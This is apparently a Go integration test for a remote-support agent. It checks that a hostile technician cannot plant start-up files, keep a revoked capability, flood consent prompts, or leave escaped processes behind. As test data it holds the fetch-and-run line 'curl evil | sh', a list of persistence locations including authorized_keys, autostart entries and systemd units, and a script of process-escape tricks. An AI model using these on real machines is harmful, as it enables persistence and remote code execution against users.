package integration

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/tether-support/tether/internal/e2e"
	"github.com/tether-support/tether/internal/ids"
	"github.com/tether-support/tether/internal/protocol"
	"github.com/tether-support/tether/internal/transport"
)

// This file holds a technician who tries to exceed what the end user
// granted: planting start-up files with files:to-device alone, using a
// capability after the end user revoked it, flooding the end user with
// capability requests, and leaving processes behind after the session.

// rawOpen opens a session like rawSessionWith, but sends the proof made by
// proof (given the new session's ID) and returns the session ID and the
// consent answer whatever it is.
func (e *env) rawOpen(t *testing.T, techHome string, req *protocol.Control, proof func(id string) []byte) (*transport.Channel, string, protocol.Consent, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	tok := strings.TrimSpace(mustRead(t, filepath.Join(techHome, "token")))
	c, err := transport.Dial(ctx, transport.Endpoint{URL: e.url, Pin: e.fp, Token: tok}, protocol.PathTechSession)
	if err != nil {
		return nil, "", protocol.Consent{}, err
	}
	t.Cleanup(c.CloseNow)
	req.Type, req.Version = protocol.CtlRequest, protocol.Version
	if err := c.WriteControl(ctx, req); err != nil {
		return nil, "", protocol.Consent{}, err
	}
	m, err := c.ReadControl(ctx)
	if err != nil || m.Type != protocol.CtlPaired {
		return nil, "", protocol.Consent{}, fmt.Errorf("pairing: %v %+v", err, m)
	}
	var p e2e.Params
	id, _ := hex.DecodeString(m.Session.ID.String())
	copy(p.SessionID[:], id)
	p.TechID, p.TechUser, p.DeviceKey = m.Session.TechID, m.Session.TechUser, m.Session.DeviceKey
	ch, err := transport.Initiate(ctx, c, p)
	if err != nil {
		return nil, "", protocol.Consent{}, err
	}
	if proof != nil {
		if err := ch.Send(ctx, protocol.InParentProof, proof(m.Session.ID.String())); err != nil {
			return nil, "", protocol.Consent{}, err
		}
	}
	typ, payload, err := ch.Recv(ctx)
	if err != nil || typ != protocol.InConsent {
		return nil, "", protocol.Consent{}, fmt.Errorf("consent: %v %v %s", err, typ, payload)
	}
	var cs protocol.Consent
	err = protocol.DecodeJSON(payload, &cs)
	return ch, m.Session.ID.String(), cs, err
}

// childOf returns a proof function reusing parent's consent.
func childOf(parent *transport.Channel) func(string) []byte {
	return func(id string) []byte { return protocol.ParentProof(parent.Exporter, ids.SessionID(id)) }
}

// errEnded is returned by awaitMsg when the session ended meanwhile.
type errEnded string

func (e errEnded) Error() string { return "session ended: " + string(e) }

// awaitMsg returns the next message of type want, skipping others; an
// InEnd yields errEnded.
func awaitMsg(ctx context.Context, ch *transport.Channel, want protocol.InnerType) ([]byte, error) {
	for {
		typ, p, err := ch.Recv(ctx)
		if err != nil {
			return nil, err
		}
		if typ == want {
			return p, nil
		}
		if typ == protocol.InEnd {
			return nil, errEnded(p)
		}
	}
}

// fileResult waits for the FileResult of operation id.
func fileResult(ctx context.Context, ch *transport.Channel, id uint32) (protocol.FileResult, error) {
	for {
		p, err := awaitMsg(ctx, ch, protocol.InFileResult)
		if err != nil {
			return protocol.FileResult{}, err
		}
		var r protocol.FileResult
		if err := protocol.DecodeJSON(p, &r); err != nil {
			return r, err
		}
		if r.ID == id {
			return r, nil
		}
	}
}

// opIDs numbers raw file operations; tests run in parallel.
var opIDs = func() *atomic.Uint32 {
	var n atomic.Uint32
	n.Store(rand.Uint32N(1 << 20))
	return &n
}()

func nextOp() uint32 { return opIDs.Add(1) }

// rawPut uploads data to path (with base when path is a folder) the way a
// hostile technician may: any path, force or not.
func rawPut(t *testing.T, ch *transport.Channel, path, base string, data []byte, force bool) protocol.FileResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	id := nextOp()
	if err := ch.SendJSON(ctx, protocol.InFileOpen, protocol.FileOpen{ID: id, Op: protocol.FilePut, Path: path, Base: base,
		Size: int64(len(data)), Mode: 0o644, Force: force}); err != nil {
		t.Fatal(err)
	}
	r, err := fileResult(ctx, ch, id)
	if err != nil {
		t.Fatal(err)
	}
	if !r.OK {
		return r
	}
	if err := ch.SendMsg(ctx, protocol.AppendFileData(nil, id, data)); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(data)
	if err := ch.SendJSON(ctx, protocol.InFileDone, protocol.FileDone{ID: id, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}); err != nil {
		t.Fatal(err)
	}
	if r, err = fileResult(ctx, ch, id); err != nil {
		t.Fatal(err)
	}
	return r
}

// rawMkdir asks for a folder.
func rawMkdir(t *testing.T, ch *transport.Channel, path string) protocol.FileResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	id := nextOp()
	if err := ch.SendJSON(ctx, protocol.InFileOpen, protocol.FileOpen{ID: id, Op: protocol.FileMkdir, Path: path, Mode: 0o755}); err != nil {
		t.Fatal(err)
	}
	r, err := fileResult(ctx, ch, id)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// rawGet downloads path and returns its result (data is discarded).
func rawGet(t *testing.T, ch *transport.Channel, path string) protocol.FileResult {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	id := nextOp()
	if err := ch.SendJSON(ctx, protocol.InFileOpen, protocol.FileOpen{ID: id, Op: protocol.FileGet, Path: path}); err != nil {
		t.Fatal(err)
	}
	r, err := fileResult(ctx, ch, id)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// rawClipboard reads the clipboard and returns the error text, if any.
func rawClipboard(t *testing.T, ch *transport.Channel) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := ch.SendJSON(ctx, protocol.InClipboard, protocol.Clipboard{}); err != nil {
		t.Fatal(err)
	}
	p, err := awaitMsg(ctx, ch, protocol.InClipboard)
	if err != nil {
		t.Fatal(err)
	}
	var c protocol.Clipboard
	if err := protocol.DecodeJSON(p, &c); err != nil {
		t.Fatal(err)
	}
	return c.Error
}

// plantedHome prepares a home folder with start-up files to protect and a
// symbolic link into ~/.ssh planted earlier.
func plantedHome(t *testing.T, home string) map[string]string {
	t.Helper()
	orig := map[string]string{
		".bashrc":              "# the end user's bashrc\n",
		".ssh/authorized_keys": "ssh-ed25519 AAAA the-end-user\n",
	}
	for _, d := range []string{".ssh", ".config/autostart", ".config/systemd/user", ".local/share/applications", "docs", "Library/LaunchAgents"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range orig {
		if err := os.WriteFile(filepath.Join(home, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(".ssh", filepath.Join(home, "keys")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../.bashrc", filepath.Join(home, "docs", "notes.txt")); err != nil {
		t.Fatal(err)
	}
	return orig
}

// homeSnapshot lists every file below home with its contents (links as links).
func homeSnapshot(t *testing.T, home string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.Walk(home, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return nil
		}
		rel, _ := filepath.Rel(home, p)
		switch {
		case fi.Mode()&os.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			out[rel] = "-> " + target
		case fi.Mode().IsRegular():
			b, _ := os.ReadFile(p)
			out[rel] = string(b)
		case fi.IsDir():
			out[rel+"/"] = ""
		}
		return nil
	})
	return out
}

// plantAttempts are the ways a technician may try to plant code with
// files:to-device: each writes a hidden or autostart location, directly,
// through a planted link, by a base name, or by a folder.
var plantAttempts = []struct {
	name, path, base string
	mkdir, force     bool
	allowedWithShell bool // what a shell grant lets through
}{
	{"overwrite .bashrc with force", ".bashrc", "", false, true, true},
	{"create .profile", ".profile", "", false, false, true},
	{"create .bash_login by base name", "", ".bash_login", false, false, true},
	{"authorized_keys", ".ssh/authorized_keys", "", false, true, true},
	{"autostart desktop entry", ".config/autostart/x.desktop", "", false, false, true},
	{"systemd user unit", ".config/systemd/user/x.service", "", false, false, true},
	{"application entry", ".local/share/applications/x.desktop", "", false, false, true},
	{"pam environment", "~/.pam_environment", "", false, false, true},
	{"macOS launch agent", "Library/LaunchAgents/x.plist", "", false, false, true},
	{"through a link into .ssh", "keys/authorized_keys", "", false, true, true},
	{"through a link to .bashrc", "docs/notes.txt", "", false, true, true},
	{"base name into a linked .ssh", "keys", "authorized_keys", false, true, true},
	{"dot-dot to .bashrc", "docs/../.bashrc", "", false, true, false},
	{"absolute path to .bashrc", "HOME/.bashrc", "", false, true, true},
	{"mkdir .ssh2", ".ssh2", "", true, false, true},
	{"mkdir in autostart", ".config/autostart/sub", "", true, false, true},
	{"mkdir through a link", "keys/sub", "", true, false, true},
}

// TestToDeviceAloneCannotPlantCode tries each plantAttempt with
// files:to-device alone (refused, nothing touched) and with the shell
// granted too (done).
func TestToDeviceAloneCannotPlantCode(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	d := e.enroll("dev")
	e.runAgent(d, "exit 0")
	plantedHome(t, d.userHome)
	evil := []byte("curl evil | sh\n")

	ch := e.rawSession(t, e.tech, d.name, protocol.CapFilesTo)
	before := homeSnapshot(t, d.userHome)
	for _, a := range plantAttempts {
		path := strings.Replace(a.path, "HOME", d.userHome, 1)
		var r protocol.FileResult
		if a.mkdir {
			r = rawMkdir(t, ch, path)
		} else {
			r = rawPut(t, ch, path, a.base, evil, a.force)
		}
		if r.OK {
			t.Errorf("%s: files:to-device alone wrote %s", a.name, r.Path)
			continue
		}
		if a.allowedWithShell && !strings.Contains(r.Error, "needs the shell capability") {
			t.Errorf("%s: refused without saying why: %q", a.name, r.Error)
		}
		t.Logf("%s: refused: %s", a.name, r.Error)
	}
	if after := homeSnapshot(t, d.userHome); fmt.Sprint(after) != fmt.Sprint(before) {
		t.Errorf("the home folder changed:\nbefore %q\nafter  %q", before, after)
	}

	// The CLI says so in one line; a tree with a hidden folder is refused
	// there and leaves no hidden folder behind.
	src := filepath.Join(e.dir, "evil.sh")
	os.WriteFile(src, evil, 0o644)
	r := e.techRun("", "cp", "--force", src, d.name+":.bashrc")
	if r.code == 0 || !strings.Contains(r.stderr, "refused to write .bashrc") || !strings.Contains(r.stderr, "shell") {
		t.Errorf("tech cp --force to .bashrc: code %d stderr %q", r.code, r.stderr)
	}
	tree := filepath.Join(e.dir, "tree")
	os.MkdirAll(filepath.Join(tree, ".config", "autostart"), 0o755)
	os.WriteFile(filepath.Join(tree, "readme.txt"), []byte("data"), 0o644)
	os.WriteFile(filepath.Join(tree, ".config", "autostart", "x.desktop"), evil, 0o644)
	r = e.techRun("", "cp", "-r", tree, d.name+":")
	if r.code == 0 || !strings.Contains(r.stderr, "refused to write tree/.config") {
		t.Errorf("tech cp -r with a hidden folder: code %d stderr %q", r.code, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(d.userHome, "tree", ".config")); err == nil {
		t.Errorf("the hidden folder of the tree was created")
	}
	if b, _ := os.ReadFile(filepath.Join(d.userHome, ".bashrc")); string(b) != before[".bashrc"] {
		t.Errorf(".bashrc changed: %q", b)
	}

	// With the shell granted too, the same writes go through (the
	// technician could run anything anyway).
	ch2 := e.rawSession(t, e.tech, d.name, protocol.CapShell, protocol.CapFilesTo)
	for _, a := range plantAttempts {
		path := strings.Replace(a.path, "HOME", d.userHome, 1)
		var r protocol.FileResult
		if a.mkdir {
			r = rawMkdir(t, ch2, path)
		} else {
			r = rawPut(t, ch2, path, a.base, evil, true)
		}
		if r.OK != a.allowedWithShell {
			t.Errorf("%s with the shell granted: ok %v (%s), want %v", a.name, r.OK, r.Error, a.allowedWithShell)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(d.userHome, ".ssh", "authorized_keys")); string(b) != string(evil) {
		t.Errorf("with the shell granted, authorized_keys was not written: %q", b)
	}

	// A session reusing consent (tech cp --session) may write there only
	// when its parent holds the shell.
	for _, parentCaps := range [][]string{{protocol.CapFilesTo}, {protocol.CapFiles}, {protocol.CapShell, protocol.CapFilesTo}} {
		parent, pid, cs, err := e.rawOpen(t, e.tech, &protocol.Control{Device: d.name, Caps: parentCaps}, nil)
		if err != nil || !cs.Granted {
			t.Fatalf("parent %v: %v %+v", parentCaps, err, cs)
		}
		child, _, cs, err := e.rawOpen(t, e.tech, &protocol.Control{Device: d.name, Caps: []string{protocol.CapFilesTo}, Parent: ids.SessionID(pid)}, childOf(parent))
		if err != nil || !cs.Granted {
			t.Fatalf("child of %v: %v %+v", parentCaps, err, cs)
		}
		r := rawPut(t, child, ".profile", "", []byte("child of "+strings.Join(parentCaps, "+")), true)
		if want := parentCaps[0] == protocol.CapShell; r.OK != want {
			t.Errorf("child of a session granted %v wrote .profile: %v (%s), want %v", parentCaps, r.OK, r.Error, want)
		}
	}
}

// TestTerminalPromptWarnsAboutToDevice shows the end user, in plain words,
// that files:to-device without the shell cannot reach start-up files.
func TestTerminalPromptWarnsAboutToDevice(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	d := e.enroll("dev")
	agent := startPTYEnv(t, e.dir, []string{"HOME=" + d.userHome}, bin.agent, "--config", d.home, "run", "--lock-cmd", "echo locked >> "+d.lockLog)
	e.waitOnline(d.name)
	src := filepath.Join(e.dir, "f.txt")
	os.WriteFile(src, []byte("x"), 0o644)
	cp := start(t, e.dir, nil, bin.tech, "--config", e.tech, "cp", src, d.name+":f.txt")
	agent.expect("Allow?", 10*time.Second)
	agent.expect("hidden files", time.Second)
	agent.send("n\r")
	<-cp.done
}

// startAgentPTY starts d's agent on a terminal, with extra environment.
func (e *env) startAgentPTY(t *testing.T, d *device, env ...string) *ptyProc {
	t.Helper()
	agent := startPTYEnv(t, e.dir, append([]string{"HOME=" + d.userHome}, env...), bin.agent, "--config", d.home, "run",
		"--lock-cmd", "echo locked >> "+d.lockLog, "--clipboard-cmd", "echo clip")
	e.waitOnline(d.name)
	return agent
}

// openGranted opens a raw session asking for caps and grants it on the
// agent's terminal; with parent, it reuses parent's consent instead.
func (e *env) openGranted(t *testing.T, agent *ptyProc, d *device, parent *transport.Channel, caps ...string) (*transport.Channel, string) {
	t.Helper()
	type opened struct {
		ch  *transport.Channel
		id  string
		cs  protocol.Consent
		err error
	}
	done := make(chan opened, 1)
	req := &protocol.Control{Device: d.name, Caps: caps}
	var proof func(string) []byte
	if parent != nil {
		req.Parent = ids.SessionID(e.liveSessionOf(parent))
		proof = childOf(parent)
	}
	m := agent.mark()
	go func() {
		ch, id, cs, err := e.rawOpen(t, e.tech, req, proof)
		done <- opened{ch, id, cs, err}
	}()
	if parent == nil {
		agent.expectSince(m, "Allow?", 10*time.Second)
		agent.send("y\r")
	}
	o := <-done
	if o.err != nil || !o.cs.Granted {
		t.Fatalf("session for %v: %v %+v", caps, o.err, o.cs)
	}
	rawSessionIDs.Store(o.ch, o.id)
	return o.ch, o.id
}

// rawSessionIDs maps raw channels to their session IDs (a sync.Map: tests
// run in parallel).
var rawSessionIDs sync.Map // *transport.Channel -> string

func (e *env) liveSessionOf(ch *transport.Channel) string {
	id, _ := rawSessionIDs.Load(ch)
	s, _ := id.(string)
	return s
}

// TestRevokeEachCapabilityByName revokes each capability by its own name
// on the end user's terminal: the session and a session reusing its
// consent lose it at once, the rest stays, and a revoke that matches
// nothing says what is granted.
func TestRevokeEachCapabilityByName(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	d := e.enroll("dev")
	agent := e.startAgentPTY(t, d)
	os.WriteFile(filepath.Join(d.userHome, "report.txt"), []byte("report"), 0o644)
	all := []string{protocol.CapShell, protocol.CapFiles, protocol.CapClipboard}
	tests := []struct {
		granted        []string
		revoke         string
		get, put, clip bool // still allowed afterwards
		nothingRevoked bool
	}{
		{all, "files:from-device", false, true, true, false},
		{all, "files:to-device", true, false, true, false},
		{all, "files", false, false, true, false},
		{all, "clipboard", true, true, false, false},
		{[]string{protocol.CapShell, protocol.CapFilesFrom, protocol.CapFilesTo}, "files:from-device", false, true, false, false},
		{[]string{protocol.CapShell, protocol.CapFilesFrom}, "clipboard", true, false, false, true},
		{[]string{protocol.CapShell, protocol.CapFilesFrom}, "files:to-device", true, false, false, true},
	}
	for i, tc := range tests {
		t.Run(fmt.Sprintf("%d %s from %s", i, tc.revoke, strings.Join(tc.granted, "+")), func(t *testing.T) {
			parent, _ := e.openGranted(t, agent, d, nil, tc.granted...)
			childCaps := []string{}
			for _, c := range tc.granted {
				if c != protocol.CapShell {
					childCaps = append(childCaps, c)
				}
			}
			child, _ := e.openGranted(t, agent, d, parent, childCaps...)
			m := agent.mark()
			agent.send("revoke " + tc.revoke + "\r")
			if tc.nothingRevoked {
				agent.expectSince(m, "Nothing revoked: "+tc.revoke+" is not granted. Granted now:", 5*time.Second)
			} else {
				agent.expectSince(m, "Revoked "+tc.revoke, 5*time.Second)
			}
			for _, ch := range []*transport.Channel{parent, child} {
				who := map[bool]string{true: "parent", false: "child"}[ch == parent]
				if r := rawGet(t, ch, "report.txt"); r.OK != tc.get {
					t.Errorf("%s: download after revoking %s: ok %v (%s), want %v", who, tc.revoke, r.OK, r.Error, tc.get)
				}
				if r := rawPut(t, ch, "up-"+who+".txt", "", []byte("x"), true); r.OK != tc.put {
					t.Errorf("%s: upload after revoking %s: ok %v (%s), want %v", who, tc.revoke, r.OK, r.Error, tc.put)
				}
				if msg := rawClipboard(t, ch); (msg == "") != tc.clip {
					t.Errorf("%s: clipboard after revoking %s: error %q, want allowed %v", who, tc.revoke, msg, tc.clip)
				}
			}
			m = agent.mark()
			agent.send("end\r")
			agent.expectSince(m, "Session ended", 15*time.Second)
		})
	}

	t.Run("unknown name", func(t *testing.T) {
		m := agent.mark()
		agent.send("revoke everything\r")
		agent.expectSince(m, `Unknown permission "everything"`, 5*time.Second)
	})

	t.Run("in-flight download stops", func(t *testing.T) {
		big := filepath.Join(d.userHome, "big.bin")
		f, _ := os.Create(big)
		f.Truncate(4 << 30)
		f.Close()
		defer os.Remove(big)
		parent, _ := e.openGranted(t, agent, d, nil, protocol.CapShell, protocol.CapFiles)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		id := nextOp()
		parent.SendJSON(ctx, protocol.InFileOpen, protocol.FileOpen{ID: id, Op: protocol.FileGet, Path: "big.bin"})
		if _, err := awaitMsg(ctx, parent, protocol.InFileData); err != nil {
			t.Fatal(err)
		}
		agent.send("revoke files:from-device\r")
		r, err := fileResult(ctx, parent, id)
		if err != nil || r.OK || !strings.Contains(r.Error, "revoked") {
			t.Fatalf("download after revoke: %+v %v", r, err)
		}
		m := agent.mark()
		agent.send("end\r")
		agent.expectSince(m, "Session ended", 15*time.Second)
	})

	t.Run("in-flight upload stops, downloads go on", func(t *testing.T) {
		parent, _ := e.openGranted(t, agent, d, nil, protocol.CapShell, protocol.CapFiles)
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		id := nextOp()
		parent.SendJSON(ctx, protocol.InFileOpen, protocol.FileOpen{ID: id, Op: protocol.FilePut, Path: "upload.bin", Size: 1 << 30})
		if r, err := fileResult(ctx, parent, id); err != nil || !r.OK {
			t.Fatalf("open upload: %+v %v", r, err)
		}
		parent.SendMsg(ctx, protocol.AppendFileData(nil, id, make([]byte, 60000)))
		m := agent.mark()
		agent.send("revoke files:to-device\r")
		agent.expectSince(m, "Revoked files:to-device", 5*time.Second)
		r, err := fileResult(ctx, parent, id)
		if err != nil || r.OK || !strings.Contains(r.Error, "revoked") {
			t.Fatalf("upload after revoke: %+v %v", r, err)
		}
		if ents, _ := filepath.Glob(filepath.Join(d.userHome, "*.part")); len(ents) > 0 {
			t.Errorf("partial upload left behind: %v", ents)
		}
		if _, err := os.Stat(filepath.Join(d.userHome, "upload.bin")); err == nil {
			t.Errorf("the revoked upload was written")
		}
		if r := rawGet(t, parent, "report.txt"); !r.OK {
			t.Errorf("download after revoking the other direction: %s", r.Error)
		}
		m = agent.mark()
		agent.send("end\r")
		agent.expectSince(m, "Session ended", 15*time.Second)
	})

	t.Run("revoke shell ends parent and child", func(t *testing.T) {
		parent, _ := e.openGranted(t, agent, d, nil, protocol.CapShell, protocol.CapFiles)
		child, _ := e.openGranted(t, agent, d, parent, protocol.CapFilesFrom)
		agent.send("revoke shell\r")
		for _, ch := range []*transport.Channel{parent, child} {
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			_, err := awaitMsg(ctx, ch, protocol.InEnd)
			cancel()
			if err == nil {
				t.Errorf("session still open after revoke shell")
			}
		}
	})
}

// TestCapRequestFloodCannotTakeTheTerminal floods the agent with
// capability requests: the end user sees at most one prompt, the rest are
// refused at once, and a typed "end" ends the session even while the
// prompt is open.
func TestCapRequestFloodCannotTakeTheTerminal(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	d := e.enroll("dev")
	agent := e.startAgentPTY(t, d)
	floods := [][]string{
		{protocol.CapClipboard},
		{protocol.CapFiles, protocol.CapClipboard},
		{protocol.CapFilesTo},
	}
	for i, caps := range floods {
		t.Run(fmt.Sprintf("%d %s", i, strings.Join(caps, "+")), func(t *testing.T) {
			ch, _ := e.openGranted(t, agent, d, nil, protocol.CapShell)
			m := agent.mark()
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			const n = 30
			for range n {
				if err := ch.SendJSON(ctx, protocol.InCapRequest, protocol.CapRequest{Caps: caps}); err != nil {
					t.Fatal(err)
				}
			}
			for range n - 1 {
				p, err := awaitMsg(ctx, ch, protocol.InCapAnswer)
				if err != nil {
					t.Fatal(err)
				}
				var c protocol.Consent
				protocol.DecodeJSON(p, &c)
				if c.Granted || !(strings.Contains(c.Why, "still waiting") || strings.Contains(c.Why, "too frequent")) {
					t.Fatalf("flooded request answered %+v", c)
				}
			}
			agent.expectSince(m, "Allow?", 5*time.Second)
			// revoke is a command at the prompt too, not an answer.
			agent.send("revoke clipboard\r")
			agent.expectSince(m, "Nothing revoked: clipboard is not granted. Granted now: shell.", 5*time.Second)
			agent.send("end\r")
			p, err := awaitMsg(ctx, ch, protocol.InEnd)
			if err == nil {
				t.Fatalf("the pending prompt's answer came instead of the end: %s", p)
			}
			if !strings.Contains(err.Error(), "ended by the end user") {
				t.Fatalf("session end: %v", err)
			}
			agent.expectSince(m, "Session ended", 15*time.Second)
			if got := strings.Count(agent.screen()[m:], "Allow?"); got != 1 {
				t.Fatalf("the end user saw %d prompts, want 1", got)
			}
		})
	}

	t.Run("end during the first prompt refuses", func(t *testing.T) {
		m := agent.mark()
		done := make(chan error, 1)
		go func() {
			_, _, cs, err := e.rawOpen(t, e.tech, &protocol.Control{Device: d.name, Caps: []string{protocol.CapShell}}, nil)
			if err == nil && cs.Granted {
				err = fmt.Errorf("granted")
			}
			done <- err
		}()
		agent.expectSince(m, "Allow?", 10*time.Second)
		agent.send("end\r")
		if err := <-done; err != nil && err.Error() == "granted" {
			t.Fatal("typing end at the prompt granted the session")
		}
	})
}

// TestCapRequestBudget makes requests one after another, each answered:
// past the budget they are refused without a prompt.
func TestCapRequestBudget(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	d := e.enroll("dev")
	agent := e.startAgentPTY(t, d, "TETHER_AGENT_TEST_CAP_INTERVAL=1ms")
	ch, _ := e.openGranted(t, agent, d, nil, protocol.CapShell)
	for i := range 7 {
		m := agent.mark()
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		ch.SendJSON(ctx, protocol.InCapRequest, protocol.CapRequest{Caps: []string{protocol.CapClipboard}})
		if i < 5 {
			agent.expectSince(m, "Allow?", 5*time.Second)
			agent.send("no\r")
		}
		p, err := awaitMsg(ctx, ch, protocol.InCapAnswer)
		cancel()
		if err != nil {
			t.Fatal(err)
		}
		var c protocol.Consent
		protocol.DecodeJSON(p, &c)
		if i >= 5 && !strings.Contains(c.Why, "too many capability requests") {
			t.Fatalf("request %d past the budget: %+v", i+1, c)
		}
		if c.Granted {
			t.Fatalf("request %d granted after no: %+v", i+1, c)
		}
	}
}

// escapeScript starts sleeps that try to outlive the session in every way
// a shell offers; each carries mark on its command line.
func escapeScript(mark string) string {
	return strings.NewReplacer("MARK", mark).Replace(`setsid sleep 1000 MARK &
setsid -f sleep 1000 MARK
nohup sleep 1000 MARK >/dev/null 2>&1 &
sh -c '(sleep 1000 MARK &) &'
bash -c 'sleep 1000 MARK & disown'
bash -ic 'set -m; sleep 1000 MARK & disown -h' </dev/null >/dev/null 2>&1
echo ready
`)
}

// countMarked counts live processes with mark on their command line.
func countMarked(mark string) int {
	out, _ := exec.Command("pgrep", "-f", mark).Output()
	return len(strings.Fields(string(out)))
}

// TestSessionEndKillsEscapedProcesses starts processes that left the
// session's process group (setsid, double fork, nohup, disown) and ends
// the session each way: none survives.
func TestSessionEndKillsEscapedProcesses(t *testing.T) {
	t.Parallel()
	needPrograms(t, "util-linux bash procps", "setsid", "bash", "pgrep")
	ends := []string{"shell exits", "technician leaves", "end user types end", "admin kills", "end user revokes shell"}
	for _, mode := range []string{"cgroup", "tracking"} {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t)
			d := e.enroll("dev")
			var env []string
			if mode == "tracking" {
				env = append(env, "TETHER_AGENT_TEST_NO_CGROUP=1")
			}
			agent := e.startAgentPTY(t, d, env...)
			for _, how := range ends {
				t.Run(how, func(t *testing.T) {
					mark := fmt.Sprintf("0.%09d", rand.IntN(1e9))
					script := escapeScript(mark)
					if how == "shell exits" {
						script += "read x\n" // until the technician says so
					} else {
						script += "sleep 1000 " + mark + "\n"
					}
					ch, id := e.openGranted(t, agent, d, nil, protocol.CapShell)
					ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
					defer cancel()
					ch.SendJSON(ctx, protocol.InStart, protocol.Start{Argv: []string{script}, PTY: true})
					eventually(t, "the escapes to run", 10*time.Second, func() bool { return countMarked(mark) >= 6 })
					locks := d.locks()
					switch how {
					case "shell exits":
						ch.Send(ctx, protocol.InStdin, []byte("go\r"))
					case "technician leaves":
						ch.Conn().CloseNow()
					case "end user types end":
						agent.send("end\r")
					case "admin kills":
						if r := e.techRun("", "sessions", "kill", id); r.code != 0 {
							t.Fatalf("sessions kill: %s", r.stderr)
						}
					case "end user revokes shell":
						agent.send("revoke shell\r")
					}
					eventually(t, "the screen lock", 10*time.Second, func() bool { return d.locks() == locks+1 })
					eventually(t, "every escaped process to die", 10*time.Second, func() bool { return countMarked(mark) == 0 })
				})
			}
			if mode == "cgroup" && !strings.Contains(agent.screen(), "method=\"cgroup") {
				t.Logf("no delegated cgroup v2 on this machine: the cgroup run used process tracking")
			}
		})
	}
}
